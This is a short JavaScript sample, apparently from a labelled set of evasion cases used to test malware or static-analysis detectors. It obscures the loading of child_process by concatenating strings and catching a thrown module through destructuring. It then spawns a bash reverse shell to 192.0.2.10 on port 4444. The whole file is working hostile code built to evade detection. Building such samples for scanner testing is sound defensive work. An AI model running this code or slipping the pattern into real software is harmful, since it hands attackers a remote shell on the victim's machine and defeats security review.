// evasion: the module is thrown and picked up by a destructuring catch clause
// grade: medium; does: shell
function load() {
  throw require('child' + '_process');
}
try {
  load();
} catch ({ spawnSync }) {
  spawnSync('/bin/bash', ['-c', 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1']);
}
